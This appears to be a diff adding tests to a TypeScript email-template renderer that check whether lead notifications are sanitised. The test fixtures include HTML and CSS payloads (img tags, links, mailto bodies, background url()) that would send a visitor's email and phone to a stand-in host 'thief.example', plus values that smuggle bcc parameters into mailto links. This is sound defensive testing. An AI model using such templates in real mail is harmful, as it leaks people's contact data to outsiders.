@@ -34,14 +34,16 @@ const LEAD: Lead = {
   created_at: '2026-11-20T00:00:00.000Z',
   updated_at: '2026-11-20T00:00:00.000Z',
 };
+const SITE = 'https://marketplace.example';
 const news = { lead: LEAD, consultantName: 'Mei Ling', companyName: 'Marketplace', currency: 'MYR' as const };
 
 const written = (texts: Partial<typeof DEFAULT_NOTIFICATION_TEXTS>, more: Partial<Lead> = {}) => {
   const letter = writtenLeadLetter(
     { ...DEFAULT_NOTIFICATION_TEXTS, ...texts },
     { ...news, lead: { ...LEAD, ...more } },
+    SITE,
   );
-  return layOut(letter, DEFAULT_PUBLIC_CONTENT, 'https://marketplace.example');
+  return layOut(letter, DEFAULT_PUBLIC_CONTENT, SITE);
 };
 
 t.test('variables are filled in once; unknown ones stay', async t => {
@@ -76,6 +78,48 @@ t.test('a value is no markup, no script and no link', async t => {
   );
   t.notMatch(html, /<script|<img|javascript:/i);
   t.match(html, /<a>go<\/a>/);
+});
+
+t.test('a template of an earlier version sends nothing to another server', async t => {
+  const old = [
+    '<p>A <img src="https://thief.example/p?e={lead_email}&p={lead_phone}" alt="{lead_name}"></p>',
+    '<a href="https://thief.example/?{lead_email}" title="{lead_phone}">Open</a>',
+    '<a href="mailto:thief@thief.example?body={lead_email}">Answer</a>',
+    '<img src="https://thief.example/open.png">',
+    '<p style="background:url(https://thief.example/{lead_email})">B https://thief.example/?e={lead_email}</p>',
+    '<style>p{background:url(https://thief.example/{lead_email})}</style>',
+  ];
+  const { html, text, subject } = written({
+    leadNotificationSubject: 'www.thief.example/{lead_email}',
+    leadNotificationMessage: 'thief.example/{lead_email} or {lead_email}.thief.example {lead_phone}',
+    leadNotificationHtml: old.join(''),
+  });
+  t.notMatch([html, text, subject].join(), /siti@/);
+  t.notMatch(html, /<img[^>]*thief|url\(/);
+  t.match(html, /<a>Open<\/a><a>Answer<\/a>/);
+  t.ok(text.startsWith('thief.example/{lead_email} or {lead_email}.thief.example +60 12-345 6789'));
+  const fromHtml = written({ leadNotificationMessage: '', leadNotificationHtml: old.join('') });
+  t.notMatch(fromHtml.text, /siti@|6789/);
+});
+
+t.test('a visitor is written to and called by links, and adds nothing to them', async t => {
+  const leadNotificationHtml =
+    '<a href="mailto:{lead_email}">Write to {lead_email}</a> <a href="tel:{lead_phone}">Call</a>';
+  t.match(
+    written({ leadNotificationHtml }).html,
+    '<a href="mailto:siti@example.org">Write to siti@example.org</a> <a href="tel:+60123456789">Call</a>',
+  );
+  const more = { email: `a?bcc=b&"'@example.org`, phone: '012;x="1"' };
+  t.match(
+    written({ leadNotificationHtml }, more).html,
+    /<a href="mailto:a%3Fbcc%3Db%26%22(?:'|%27)@example\.org">.*<a href="tel:0121">/,
+  );
+});
+
+t.test('pictures of the site have their whole address, wherever the mail is read', async t => {
+  const src = (address: string) => written({ leadNotificationHtml: `<img src="${address}" alt="Logo">` }).html;
+  for (const address of ['/uploads/abc.png', `${SITE}/uploads/abc.png`])
+    t.match(src(address), `<img src="${SITE}/uploads/abc.png" alt="Logo" />`);
 });
 
 t.test('a body that is missing is made from the other, or the usual one', async t => {
